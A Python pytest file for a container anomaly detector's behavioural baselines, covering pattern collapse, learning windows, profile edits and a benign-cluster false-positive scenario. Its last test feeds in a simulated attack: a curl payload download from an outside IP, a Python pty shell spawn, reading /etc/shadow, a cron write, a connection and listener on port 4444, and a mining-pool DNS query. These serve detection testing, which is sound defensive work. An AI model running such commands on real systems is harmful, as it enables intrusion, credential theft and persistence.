"""Baselines: pattern collapse, learning on event time, edits, and the false-positive scenario."""

from __future__ import annotations

from collections import Counter

import pytest

from schemas.codec import decode_profile, encode
from schemas.records import (
    Alert,
    Dns,
    Event,
    EventKind,
    File,
    Network,
    Privilege,
    Process,
    Profile,
    ProfileEdit,
    ProfileEditOp,
    ProfileStatus,
    Source,
    Workload,
)
from schemas.settings import DetectSettings
from streams.baseline import (
    Baselines,
    ProfileView,
    apply_edit,
    arg_shape,
    dns_pattern,
    egress_key,
    parse_duration,
    path_pattern,
    profile_key,
)
from streams.detect import Detector
from streams.rules import load_rules
from tests.streams.benign import SEC, BenignCluster

MIN = 60 * SEC
HOUR = 60 * MIN
T0 = 1_750_000_000 * SEC


def wl(pod: str = "api-6b7c8d-zz9xq", cid: str = "c1", **kw: object) -> Workload:
    base: dict[str, object] = {
        "cluster": "test",
        "namespace": "shop",
        "pod": pod,
        "container": "api",
        "container_id": cid,
        "workload_kind": "Deployment",
        "workload_name": "api",
    }
    base.update(kw)
    return Workload(**base)  # type: ignore[arg-type]


_n = 0


def ev(kind: EventKind, t: int, workload: Workload | None = None, **blocks: object) -> Event:
    global _n
    _n += 1
    return Event(
        event_id=f"t{_n}", time=t, source=Source.TEST, kind=kind, workload=workload or wl(), **blocks
    )  # type: ignore[arg-type]


def exec_ev(t: int, exe: str, args: list[str], workload: Workload | None = None, tty: bool = False) -> Event:
    return ev(EventKind.PROCESS_EXEC, t, workload, process=Process(pid=10, exe=exe, args=args, tty=tty))


def open_ev(t: int, path: str, write: bool = False, workload: Workload | None = None) -> Event:
    return ev(
        EventKind.FILE_OPEN,
        t,
        workload,
        process=Process(pid=10, exe="/app"),
        file=File(path=path, write=write),
    )


def connect_ev(t: int, ip: str, port: int, peer: str = "", workload: Workload | None = None) -> Event:
    return ev(
        EventKind.NET_CONNECT, t, workload, network=Network(dst_ip=ip, dst_port=port, peer_workload=peer)
    )


def dns_ev(t: int, name: str, answers: list[str] | None = None, workload: Workload | None = None) -> Event:
    return ev(EventKind.DNS_QUERY, t, workload, dns=Dns(query=name, answers=answers or []))


# --- patterns ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "pattern"),
    [
        ("/proc/1234/status", "/proc/*/status"),
        ("/proc/self/fd/7", "/proc/self/fd/*"),
        ("/tmp/tmpk3j_x9ab", "/tmp/tmp*"),
        ("/tmp/tmpabcdefgh", "/tmp/tmp*"),  # a random tail without a digit is still random
        ("/tmp/tmpabcdefgh/out.json", "/tmp/tmp*/out*"),
        ("/dev/shm/sem.mp-x1", "/dev/shm/sem*"),
        ("/tmp/x", "/tmp/x"),
        ("/var/log/app/app-2024-05-01.log", "/var/log/app/app-*.log"),
        ("/var/cache/nginx/client_temp/0000000012", "/var/cache/nginx/client_temp/*"),
        ("/var/lib/app/3f2a9b7c-1d2e-4f5a-8b9c-0d1e2f3a4b5c.json", "/var/lib/app/*.json"),
        (
            "/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_10_20_30.12/token",
            "/run/secrets/kubernetes.io/serviceaccount/..*/token",
        ),
        ("/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libc.so.6"),  # few digits: kept
        ("/usr/local/lib/python3.12/os.py", "/usr/local/lib/python3.12/os.py"),
        ("relative/name", "relative/name"),
    ],
)
def test_path_pattern(path: str, pattern: str) -> None:
    assert path_pattern(path) == pattern


@pytest.mark.parametrize(
    ("args", "shape"),
    [
        (["nginx", "-g", "daemon off;"], "-g daemon off;"),
        (["sleep", "37"], "*"),
        (["worker", "--job", "3f2a9b7c1d", "--since=2024-05-01T10:00:00"], "--job * --since=*T*:*:*"),
        (["curl", "http://10.0.3.12:8080/health"], "http://*:8080/health"),
        (["sh", "-c", "sleep 37 && gzip -9 /tmp/tmpq8z_k2lp.jpg"], "-c sleep * && gzip -9 /tmp/tmp*"),
        (["java", "-Xmx512m", "-jar", "/app/app.jar"], "-Xmx512m -jar /app/app.jar"),
        (["x"], ""),
    ],
)
def test_arg_shape(args: list[str], shape: str) -> None:
    assert arg_shape(args) == shape


def test_dns_pattern() -> None:
    assert dns_pattern("API.Stripe.com.") == "api.stripe.com"
    assert dns_pattern("web-2.web.shop.svc.cluster.local") == "web-*.web.shop.svc.cluster.local"
    assert dns_pattern("ip-10-0-1-5.ec2.internal") == dns_pattern("ip-10-0-7-19.ec2.internal")


def test_parse_duration() -> None:
    assert parse_duration("3600") == 3600
    assert parse_duration("24h") == 86400
    assert parse_duration("1h30m") == 5400
    assert parse_duration("7d") == 7 * 86400
    assert parse_duration("soon") is None
    assert parse_duration("0") is None
    assert parse_duration("5x") is None


def test_own_pod_name_and_ip_collapse() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    a = wl(pod="api-6b7c8d-zz9xq", cid="c1", pod_ip="10.244.1.7")
    b.observe(
        exec_ev(T0, "/app/server", ["server", "--advertise=10.244.1.7:7946", "--name", "api-6b7c8d-zz9xq"], a)
    )
    b.observe(open_ev(T0 + 1, "/var/log/app/api-6b7c8d-zz9xq.log", write=True, workload=a))
    b.observe(exec_ev(T0 + HOUR, "/bin/true", ["true"], a))  # ends learning
    other = wl(pod="api-6b7c8d-k2j4h", cid="c2", pod_ip="10.244.3.9")
    e1 = exec_ev(
        T0 + 2 * HOUR,
        "/app/server",
        ["server", "--advertise=10.244.3.9:7946", "--name", "api-6b7c8d-k2j4h"],
        other,
    )
    e2 = open_ev(T0 + 2 * HOUR, "/var/log/app/api-6b7c8d-k2j4h.log", write=True, workload=other)
    view = b.observe(e1)
    assert view is not None and view.ready()
    assert view.seen_exec(e1) and view.seen_args(e1)
    assert view.seen_file(e2)


# --- learning ------------------------------------------------------------------------------


def test_learning_becomes_complete_on_event_time() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    view = b.observe(exec_ev(T0, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]))
    assert view is not None and not view.ready()
    b.observe(open_ev(T0 + MIN, "/etc/nginx/nginx.conf"))
    b.observe(open_ev(T0 + 2 * MIN, "/var/log/nginx/access.log", write=True))
    key = profile_key(exec_ev(T0, "/x", []))
    assert store[key].status is ProfileStatus.LEARNING
    view = b.observe(open_ev(T0 + HOUR, "/etc/late.conf"))  # at the window's end: not learned
    assert view is not None and view.ready()
    profile = store[key]
    assert profile.status is ProfileStatus.COMPLETE
    assert not profile.started_mid_run
    assert profile.execs == {"/usr/sbin/nginx": ["-g daemon off;"]}
    assert profile.files == ["/etc/nginx/nginx.conf", "/var/log/nginx/access.log"]
    assert profile.writes == ["/var/log/nginx/access.log"]
    assert "<partial>" not in profile.privileges


def test_learning_on_a_running_container_is_partial() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(open_ev(T0, "/data/a.db"))  # first sight of the container is not its start
    b.observe(exec_ev(T0 + MIN, "/bin/sh", ["sh", "-c", "pg_isready"]))
    key = next(iter(store))
    assert store[key].started_mid_run
    b.observe(open_ev(T0 + HOUR + 1, "/data/a.db"))
    assert store[key].status is ProfileStatus.PARTIAL
    assert store[key].privileges == []
    # the marker travels as a typed field, not inside the profile's data
    assert decode_profile(encode(store[key])).started_mid_run


def test_partial_profile_learns_the_next_container_start_then_is_complete() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR, startup_grace_ns=2 * MIN)
    b.observe(open_ev(T0, "/data/a.db", workload=wl(cid="old")))
    b.observe(open_ev(T0 + HOUR + 1, "/data/b.db", workload=wl(cid="old")))
    key = next(iter(store))
    assert store[key].status is ProfileStatus.PARTIAL
    new = wl(pod="api-6b7c8d-new01", cid="new")
    start = exec_ev(T0 + 2 * HOUR, "/entrypoint.sh", ["/entrypoint.sh"], new)
    conf = open_ev(T0 + 2 * HOUR + SEC, "/etc/app/rendered.conf", write=True, workload=new)
    b.observe(start)
    view = b.observe(conf)
    assert view is not None and view.seen_exec(start) and view.seen_file(conf)
    # the old container's events during the grace are still checked, not learned
    odd = open_ev(T0 + 2 * HOUR + 2 * SEC, "/etc/shadow", workload=wl(cid="old"))
    view = b.observe(odd)
    assert view is not None and not view.seen_file(odd)
    b.observe(open_ev(T0 + 2 * HOUR + 3 * MIN, "/data/c.db", workload=new))
    assert store[key].status is ProfileStatus.COMPLETE and not store[key].started_mid_run
    late = open_ev(T0 + 2 * HOUR + 4 * MIN, "/etc/app/other.conf", write=True, workload=new)
    view = b.observe(late)
    assert view is not None and not view.seen_file(late)


def test_a_container_start_during_learning_makes_a_mid_run_profile_complete() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(open_ev(T0, "/data/a.db", workload=wl(cid="old")))
    b.observe(exec_ev(T0 + MIN, "/entrypoint.sh", ["/entrypoint.sh"], wl(pod="api-6b7c8d-new01", cid="new")))
    b.observe(open_ev(T0 + HOUR, "/data/a.db", workload=wl(cid="old")))
    assert next(iter(store.values())).status is ProfileStatus.COMPLETE


def test_learning_window_label_overrides_the_default() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=24 * HOUR, window_label="cadr.dev/learning-window")
    short = wl(labels={"cadr.dev/learning-window": "2h"})
    b.observe(exec_ev(T0, "/app", ["app"], short))
    bad = wl(pod="other-1", cid="c9", workload_name="other", labels={"cadr.dev/learning-window": "whenever"})
    b.observe(exec_ev(T0, "/app", ["app"], bad))
    by_name = {p.workload_key.rsplit("/", 1)[1]: p for p in store.values()}
    assert by_name["api"].learning_until == T0 + 2 * HOUR
    assert by_name["other"].learning_until == T0 + 24 * HOUR


def test_quiet_workload_completes_by_the_watermark() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(exec_ev(T0, "/app", ["app"]))
    b.observe(exec_ev(T0 + 2 * HOUR, "/other", ["other"], wl(pod="x-1", cid="cx", workload_name="x")))
    changed = b.take_changed()
    api = store[profile_key(exec_ev(T0, "/app", ["app"]))]
    assert api.status is ProfileStatus.COMPLETE
    assert profile_key(exec_ev(T0, "/app", ["app"])) in changed


class CountingStore(dict[str, Profile]):
    def __init__(self) -> None:
        super().__init__()
        self.writes: Counter[str] = Counter()

    def __setitem__(self, key: str, value: Profile) -> None:
        self.writes[key] += 1
        super().__setitem__(key, value)


def test_changes_are_written_once_per_batch() -> None:
    store = CountingStore()
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(exec_ev(T0, "/app", ["app"]))
    for i in range(50):
        b.observe(open_ev(T0 + i + 1, f"/srv/file{i}.txt"))
    key = next(iter(store))
    assert store.writes[key] == 1  # created
    changed = b.take_changed()
    assert list(changed) == [key] and store.writes[key] == 2
    assert b.take_changed() == {}
    for i in range(10):  # nothing new: no writes
        b.observe(open_ev(T0 + 100 + i, f"/srv/file{i}.txt"))
    assert b.take_changed() == {} and store.writes[key] == 2


def test_many_names_in_one_directory_collapse_to_the_directory() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(exec_ev(T0, "/app", ["app"]))
    for i in range(60):
        b.observe(open_ev(T0 + i + 1, f"/srv/cache/entry-{chr(97 + i % 26)}{chr(97 + i // 26)}.bin"))
    profile = next(iter(store.values()))
    assert "/srv/cache/*" in profile.files
    assert len(profile.files) < 45
    b.observe(exec_ev(T0 + HOUR, "/app", ["app"]))
    e = open_ev(T0 + 2 * HOUR, "/srv/cache/entry-zz.bin")
    view = b.observe(e)
    assert view is not None and view.seen_file(e)


def test_argument_shapes_are_bounded() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    for i in range(80):
        b.observe(
            exec_ev(T0 + i, "/usr/bin/tool", ["tool", f"subcommand{chr(97 + i % 26)}{chr(97 + i // 26)}"])
        )
    shapes = next(iter(store.values())).execs["/usr/bin/tool"]
    assert len(shapes) == 65 and shapes[-1] == "*"


def test_interactive_sessions_are_not_learned() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(exec_ev(T0, "/app", ["app"]))
    b.observe(exec_ev(T0 + 1, "/bin/bash", ["bash"], tty=True))
    assert "/bin/bash" not in next(iter(store.values())).execs


def test_egress_keys_and_their_equivalences() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(exec_ev(T0, "/app", ["app"]))
    b.observe(connect_ev(T0 + 1, "10.244.9.3", 6379, peer="test/data/StatefulSet/redis"))
    b.observe(connect_ev(T0 + 2, "10.96.0.20", 5432))
    b.observe(dns_ev(T0 + 3, "api.example.com", ["93.184.216.34"]))
    b.observe(connect_ev(T0 + 4, "93.184.216.34", 443))
    b.observe(connect_ev(T0 + 5, "8.8.8.8", 53))
    profile = next(iter(store.values()))
    assert profile.egress == [
        "test/data/StatefulSet/redis:6379",
        "private:5432",
        "api.example.com:443",
        "8.8.8.8:53",
    ]
    b.observe(exec_ev(T0 + HOUR, "/app", ["app"]))

    def seen(e: Event) -> bool:
        view = b.observe(e)
        assert view is not None and view.ready()
        return view.seen_egress(e)

    t = T0 + 2 * HOUR
    assert seen(connect_ev(t, "10.244.9.4", 6379, peer="test/data/StatefulSet/redis"))
    assert seen(connect_ev(t, "10.244.9.5", 6379))  # peer not known yet: benefit of the doubt
    assert not seen(connect_ev(t, "10.244.9.5", 22, peer="test/data/StatefulSet/redis"))
    assert seen(connect_ev(t, "10.96.0.21", 5432, peer="test/db/StatefulSet/pg"))  # learned as private
    assert seen(connect_ev(t, "8.8.8.8", 53))
    b.observe(dns_ev(t, "api.example.com", ["93.184.216.99"]))  # the address rotated
    assert seen(connect_ev(t + 1, "93.184.216.99", 443))
    b.observe(dns_ev(t, "evil.example.net", ["198.18.0.1", "45.33.32.156"]))
    assert not seen(connect_ev(t + 1, "45.33.32.156", 443))
    assert not seen(connect_ev(t + 1, "1.1.1.1", 443))


def test_named_egress_gets_the_benefit_of_the_doubt_until_dns_is_seen() -> None:
    profile = Profile(
        workload_key="test/shop/Deployment/api",
        container="api",
        status=ProfileStatus.COMPLETE,
        egress=["api.example.com:443"],
    )
    e = connect_ev(T0, "93.184.216.99", 443)
    assert ProfileView(profile, dns_warm=False).seen_egress(e)  # resolved before a restart, maybe
    assert not ProfileView(profile, dns_warm=True).seen_egress(e)
    assert not ProfileView(profile, dns_warm=False).seen_egress(connect_ev(T0, "93.184.216.99", 4444))
    assert egress_key(e) == "93.184.216.99:443"


def test_privileges_and_listen_ports() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(exec_ev(T0, "/app", ["app"]))
    b.observe(ev(EventKind.PRIVILEGE_CHANGE, T0 + 1, privilege=Privilege(op="setuid", new_uid=101)))
    b.observe(ev(EventKind.NET_LISTEN, T0 + 2, network=Network(src_port=8080, direction="listen")))
    profile = next(iter(store.values()))
    assert profile.privileges == ["setuid:101"] and profile.listen_ports == [8080]


# --- edits ---------------------------------------------------------------------------------


def anom(alerts: list[Alert]) -> list[str]:
    """The anomaly rules among alerts (signature rules may fire on the same events)."""
    return [a.rule_id for a in alerts if a.rule_id.startswith("CADR-ANOM-")]


def edit(op: ProfileEditOp, container: str = "api", **kw: object) -> ProfileEdit:
    return ProfileEdit(
        edit_id="e1",
        time=T0 + 3 * HOUR,
        op=op,
        workload_key="test/shop/Deployment/api",
        container=container,
        **kw,
    )  # type: ignore[arg-type]


def test_apply_edit_is_pure_and_bumps_the_revision() -> None:
    base = Profile(
        workload_key="test/shop/Deployment/api",
        container="api",
        status=ProfileStatus.COMPLETE,
        revision=4,
        execs={"/app": [""]},
    )
    out = apply_edit(
        base,
        edit(
            ProfileEditOp.ALLOW,
            profile=Profile(workload_key="", execs={"/usr/bin/curl": []}, dns=["api.example.com"]),
        ),
        workload_key=base.workload_key,
        container="api",
    )
    assert out.execs == {"/app": [""], "/usr/bin/curl": ["*"]} and out.dns == ["api.example.com"]
    assert out.revision == 5 and out.status is ProfileStatus.COMPLETE
    assert base.execs == {"/app": [""]} and base.revision == 4
    relearn = apply_edit(out, edit(ProfileEditOp.RELEARN), workload_key=base.workload_key, container="api")
    assert relearn.status is ProfileStatus.LEARNING and relearn.execs == {} and relearn.started_mid_run
    assert relearn.revision == 6 and relearn.learning_started == 0


def test_an_allow_edit_takes_effect_at_the_next_event() -> None:
    detector = Detector(rules=load_rules(), settings=DetectSettings(learning_window_s=3600))
    detector.process(exec_ev(T0, "/app", ["app"]))
    detector.process(exec_ev(T0 + HOUR, "/app", ["app"]))
    curl = exec_ev(T0 + 2 * HOUR, "/usr/bin/curl", ["curl", "-s", "https://api.example.com/health"])
    assert anom(detector.process(curl)) == ["CADR-ANOM-0001"]
    changed = detector.baselines.apply_edit(
        edit(
            ProfileEditOp.ALLOW,
            profile=Profile(workload_key="", execs={"/usr/bin/curl": ["-s https://api.example.com/*"]}),
        )
    )
    assert list(changed) == ["test/shop/Deployment/api|api"]
    curl2 = exec_ev(T0 + 2 * HOUR + 1, "/usr/bin/curl", ["curl", "-s", "https://api.example.com/ready"])
    assert anom(detector.process(curl2)) == []
    curl3 = exec_ev(T0 + 2 * HOUR + 2, "/usr/bin/curl", ["curl", "-s", "https://paste.example.org/x"])
    assert anom(detector.process(curl3)) == ["CADR-ANOM-0002"]


def test_an_edit_without_a_container_reaches_containers_seen_later() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.apply_edit(
        edit(ProfileEditOp.ALLOW, container="", profile=Profile(workload_key="", dns=["api.example.com"]))
    )
    assert list(store) == ["test/shop/Deployment/api|*"]
    b.observe(exec_ev(T0, "/app", ["app"]))
    assert store["test/shop/Deployment/api|api"].dns == ["api.example.com"]
    b.apply_edit(edit(ProfileEditOp.ALLOW, container="", profile=Profile(workload_key="", files=["/data/*"])))
    assert all("/data/*" in p.files for p in store.values())


def test_an_imported_profile_before_any_event_is_used_at_once() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=24 * HOUR)
    imported = Profile(workload_key="x", container="x", execs={"/app": ["*"]}, status=ProfileStatus.COMPLETE)
    b.apply_edit(edit(ProfileEditOp.REPLACE, profile=imported))
    e = exec_ev(T0, "/usr/bin/nc", ["nc", "-l"])
    view = b.observe(e)
    assert view is not None and view.ready() and not view.seen_exec(e)
    assert store["test/shop/Deployment/api|api"].workload_key == "test/shop/Deployment/api"


def test_relearn_starts_the_window_at_the_next_event() -> None:
    store: dict[str, Profile] = {}
    b = Baselines(store, learning_window_ns=HOUR)
    b.observe(exec_ev(T0, "/app", ["app"]))
    b.observe(exec_ev(T0 + HOUR, "/app", ["app"]))
    b.apply_edit(edit(ProfileEditOp.RELEARN))
    b.observe(exec_ev(T0 + 5 * HOUR, "/app2", ["app2"]))
    p = store["test/shop/Deployment/api|api"]
    assert (
        p.status is ProfileStatus.LEARNING
        and p.learning_started == T0 + 5 * HOUR
        and p.execs == {"/app2": [""]}
    )
    b.observe(exec_ev(T0 + 6 * HOUR, "/app2", ["app2"]))
    # running containers' files are not re-reported by the sensor: the relearned profile is partial
    assert store["test/shop/Deployment/api|api"].status is ProfileStatus.PARTIAL


# --- the false-positive scenario -----------------------------------------------------------


def _run_benign(
    detector: Detector, sim: BenignCluster, start: int, end: int, plan: dict[int, object]
) -> tuple[list[Event], list[object]]:
    """Minute by minute: every running container's activity, plus the planned changes."""
    events: list[Event] = []
    alerts: list[object] = []
    t = start
    while t < end:
        action = plan.get(t)
        if callable(action):
            events.extend(action(t))
        for c in list(sim.containers):
            events.extend(sim.activity(c, t + sim.rng.randint(0, 20) * SEC))
        t += MIN
    events.sort(key=lambda e: e.time)
    for i, e in enumerate(events):
        alerts.extend(detector.process(e))
        if i % 2000 == 1999:
            detector.baselines.take_changed()
    detector.baselines.take_changed()
    return events, alerts


@pytest.mark.parametrize(("seed", "window"), [(11, 24 * HOUR), (3, 6 * HOUR), (5, 6 * HOUR)])
def test_benign_workloads_yield_no_alerts_after_learning(seed: int, window: int) -> None:
    """A learning window of benign work, then as long again with normal variation: no alert
    from any rule (signature and anomaly); then new behaviour in the same workloads alerts."""
    detector = Detector(rules=load_rules(), settings=DetectSettings(learning_window_s=window / SEC))
    sim = BenignCluster(seed=seed)
    legacy = sim.running("legacy")

    def start(app: str, pod: str | None = None):
        return lambda t: sim.start(app, t, pod)[1]

    # learning: two web replicas and two workers start, the legacy app is already running
    plan1 = {
        T0: start("web"),
        T0 + MIN: start("web"),
        T0 + 2 * MIN: start("worker"),
        T0 + 3 * MIN: start("worker"),
    }
    events1, alerts1 = _run_benign(detector, sim, T0, T0 + window, plan1)

    # as long again with normal variation: rolling restart and scale-up of web, workers scaled
    # from 2 to 5, the legacy container restarts, the payments API moves to new addresses
    sim.api_pool = ["35.160.12.8", "35.160.12.9", "44.224.1.17", "52.24.3.3"]
    t1 = T0 + window
    webs = [c for c in sim.containers if c.app == "web"]

    def roll(t: int) -> list[Event]:
        out: list[Event] = []
        for c in webs:
            sim.stop(c)
        for _ in range(3):
            out.extend(sim.start("web", t)[1])
        return out

    def restart_legacy(t: int) -> list[Event]:
        sim.stop(legacy)
        return sim.start("legacy", t, pod=legacy.workload.pod)[1]

    plan2 = {
        t1 + 30 * MIN: roll,
        t1 + 60 * MIN: start("worker"),
        t1 + 90 * MIN: start("worker"),
        t1 + 95 * MIN: start("worker"),
        t1 + 120 * MIN: restart_legacy,
    }
    events2, alerts2 = _run_benign(detector, sim, t1, t1 + window, plan2)

    profiles = {p.workload_key.rsplit("/", 1)[1]: p for p in detector.profiles.values()}
    summary = {
        "learning_events": len(events1),
        "after_events": len(events2),
        "alerts": len(alerts1) + len(alerts2),
        "temp_files_seen": len(
            {e.file.path for e in events1 + events2 if e.file and e.file.path.startswith("/tmp/")}
        ),
        "pods_seen": len({e.workload.pod for e in events1 + events2}),
        "profile_sizes": {
            k: len(p.files) + len(p.execs) + len(p.egress) + len(p.dns) for k, p in profiles.items()
        },
    }
    print("benign scenario:", summary)
    assert [(a.rule_id, a.message) for a in alerts1 + alerts2] == []  # type: ignore[attr-defined]
    assert profiles["web"].status is ProfileStatus.COMPLETE
    assert profiles["worker"].status is ProfileStatus.COMPLETE
    # the legacy profile ended partial, then learned its start-up at the restart
    assert profiles["legacy"].status is ProfileStatus.COMPLETE and not profiles["legacy"].started_mid_run
    assert summary["temp_files_seen"] > 200 and summary["pods_seen"] >= 10
    assert max(summary["profile_sizes"].values()) < 60  # type: ignore[type-var]

    # the same workloads doing something new are caught: the zero above is not silence
    worker = next(c for c in sim.containers if c.app == "worker")
    t = t1 + window + MIN
    attack = [
        sim.exec(worker, t, "/usr/bin/curl", ["curl", "-so", "/tmp/x", "http://45.33.32.156/x"]),
        sim.exec(
            worker, t + 1, "/usr/local/bin/python3.12", ["python3", "-c", "import pty;pty.spawn('/bin/sh')"]
        ),
        sim.open(worker, t + 2, "/etc/shadow"),
        sim.open(worker, t + 3, "/etc/cron.d/job", write=True),
        sim.connect(worker, t + 4, "45.33.32.156", 4444),
        sim.dns(worker, t + 5, "pool.supportxmr.com", []),
        sim.setid(worker, t + 6, "setuid", 0, "/tmp/x"),
        sim.listen(worker, t + 7, 4444),
    ]
    fired = sorted({r for e in attack if e is not None for r in anom(detector.process(e))})
    assert fired == [f"CADR-ANOM-000{i}" for i in range(1, 9)]
